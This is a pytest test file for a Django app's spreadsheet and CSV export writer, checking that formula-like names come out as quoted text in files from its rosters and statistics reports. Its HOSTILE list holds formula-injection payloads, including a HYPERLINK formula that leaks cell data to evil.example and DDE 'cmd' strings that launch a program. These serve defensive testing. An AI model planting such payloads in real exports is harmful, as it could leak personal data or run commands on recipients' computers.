"""Every export goes through the one writer (lib.exports): a name typed as a
formula comes out as text in the files reopened, numbers stay numbers, and no
other module writes a spreadsheet or CSV cell."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from lib.exports import DANGEROUS, Book, csv_cell, csv_text, is_dangerous
from tests.checklist import login
from xiezuo.assessment import reports
from xiezuo.consumption.models import Buyer, Product
from xiezuo.labour.models import Person, Trainee, TrainingClass

ROOT = Path(__file__).resolve().parent.parent

# Each way a cell can start a formula: the ASCII starters, the tab and the
# carriage return spreadsheet programs skip, and the full-width forms.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]


def unescaped(text):
    """openpyxl leaves the OOXML escape of a carriage return as it is; Excel reads it as one."""
    return text.replace("_x000D_", "\r")


def test_every_starter_is_dangerous_and_plain_text_is_not():
    assert all(is_dangerous(text) for text in HOSTILE)
    assert {text[0] for text in HOSTILE} == set(DANGEROUS)
    assert not any(is_dangerous(text) for text in ["湟源陈醋", "1+1", " =1", "A=1"])


def test_csv_cells_quote_formulas_and_keep_numbers_and_dates():
    assert [csv_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert csv_cell(-5) == "-5" and csv_cell(Decimal("-1234.50")) == "-1234.50" and csv_cell(-0.5) == "-0.5"
    assert csv_cell(datetime.date(2022, 6, 26)) == "2022-06-26" and csv_cell(None) == ""
    rows = list(csv.reader(io.StringIO(csv_text(["名称", "金额"], [[HOSTILE[0], -5]]).lstrip("\ufeff"))))
    assert rows == [["名称", "金额"], ["'" + HOSTILE[0], "-5"]]


def test_xlsx_cells_are_text_with_quote_prefix_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "t.xlsx"
    book = Book(path)
    bordered = book.style(border=1)
    sheet = book.sheet("表")
    for r, text in enumerate(HOSTILE):
        sheet.row(r, 0, [text, -5, Decimal("-12.50"), datetime.date(2022, 6, 26)], bordered)
    book.close()
    ws = openpyxl.load_workbook(path)["表"]
    for r, text in enumerate(HOSTILE, start=1):
        name, integer, amount, date = (ws.cell(row=r, column=c) for c in range(1, 5))
        assert (unescaped(name.value), name.data_type, name.quotePrefix) == (text, "s", True)
        assert (integer.value, integer.data_type) == (-5, "n")
        assert (amount.value, amount.data_type) == (-12.5, "n")
        assert date.value == datetime.datetime(2022, 6, 26) and date.is_date
        assert name.border.left.style == "thin"  # the caller's style survives the quoting


def test_a_sheet_takes_values_only_through_cell(tmp_path):
    sheet = Book(tmp_path / "t.xlsx").sheet("表")
    for raw in ("write", "write_string", "write_formula", "write_url", "write_row", "merge_range"):
        with pytest.raises(AttributeError):
            getattr(sheet, raw)


# No module but lib/exports.py may write a spreadsheet or CSV itself: every
# other way of writing a cell could write a user's text raw.
RAW_WRITERS = re.compile(
    r"\bimport xlsxwriter\b|\bfrom xlsxwriter\b|\bcsv\.(writer|DictWriter)\b|\bimport openpyxl\b|\bfrom openpyxl\b"
    r"|\bimport odf\b|\bfrom odf\b|\bxlwt\b"
    r"|\.(add_worksheet|write_string|write_row|write_column|write_number|write_formula|write_url|write_rich_string"
    r"|writerow|writerows)\(")


def test_no_module_writes_a_spreadsheet_except_the_one_writer():
    offenders = []
    for folder in ("xiezuo", "lib", "scripts"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "lib" / "exports.py" or "migrations" in path.parts:
                continue
            if path == ROOT / "xiezuo" / "ledgers" / "legacy_child.py":
                # Not an export: the bounded child turning an uploaded .xls/.ods
                # into the .xlsx the importer then reads; its cells must stay
                # exactly as typed, and no person ever receives the file.
                continue
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if RAW_WRITERS.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert offenders == []


def test_every_export_function_uses_the_one_writer():
    import lib.exports
    from xiezuo.labour import services as labour
    from xiezuo.ledgers import writing

    for module, name in ((writing, "Book"), (reports, "Book"), (labour, "csv_text")):
        assert getattr(module, name) is getattr(lib.exports, name), module.__name__


@pytest.fixture
def hostile_class(county):
    """A training class of the county pair whose trainees carry every hostile name."""
    tc = TrainingClass.objects.get(pairing=county, name="东西部协作劳动技术培训班（第一期）")
    for text in HOSTILE:
        person = Person(pairing=county, name=text)
        person.set_id_number(None)
        person.set_phone("")
        person.save()
        Trainee.objects.create(training_class=tc, person=person)
    return tc


@pytest.mark.parametrize("username", ["liuhe", "huangyuan"])
def test_roster_csv_writes_hostile_names_as_text(hostile_class, username):
    # The west office's export holds full ID numbers: the worst place for a formula.
    r = login(username).get(reverse("labour_roster_export", args=[hostile_class.pk]))
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    names = {row[1] for row in rows[1:]}
    assert {"'" + text for text in HOSTILE} <= names
    assert not any(is_dangerous(cell) for row in rows for cell in row)
    assert all(row[0].isdigit() for row in rows[1:])  # 序号 stays a plain number


def test_statistics_xlsx_writes_hostile_buyers_and_products_as_text(county):
    # Rename the buyers and products the tables list, through save(), so
    # that the figures cache sees the change in the audit chain and recomputes.
    before = openpyxl.load_workbook(io.BytesIO(reports.statistics_xlsx(county, 2022)))
    forms = iter(HOSTILE * 2)
    for model, title in ((Buyer, "采购金额前列的单位"), (Product, "销售金额前列的产品")):
        listed = [row[0] for row in before[title].iter_rows(min_row=4, values_only=True)]
        assert len(listed) >= 5, title
        for row in model.objects.filter(name__in=listed).order_by("pk"):
            row.name = f"{next(forms)}{row.pk}"
            row.save()
    book = openpyxl.load_workbook(io.BytesIO(reports.statistics_xlsx(county, 2022)))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_dangerous(unescaped(cell.value)):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    found.append(unescaped(cell.value))
    assert {text[0] for text in found} == set(DANGEROUS)
    buyers = book["采购金额前列的单位"]
    amounts = [row[1] for row in buyers.iter_rows(min_row=4)]
    assert amounts and all(a.data_type == "n" and a.value > 0 for a in amounts)
